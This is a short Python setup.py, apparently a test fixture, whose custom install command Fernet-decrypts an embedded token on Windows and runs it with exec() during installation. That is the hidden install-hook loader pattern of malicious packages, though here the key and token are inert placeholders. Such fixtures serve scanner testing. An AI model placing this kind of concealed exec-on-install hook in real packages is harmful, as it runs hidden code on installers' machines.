from setuptools import setup, find_packages
from setuptools.command.install import install
import os
class K(install):
    def run(self):
        if os.name == "nt":
            import requests
            from fernet import Fernet
            exec(Fernet(b'aW5lcnQta2V5LWluZXJ0LWtleS1pbmVydC1rZXktMDA=').decrypt(b'gAAAAABmbf1inert-token'))
        install.run(self)
setup(name='fixture', version='1.0', cmdclass={'install': K})
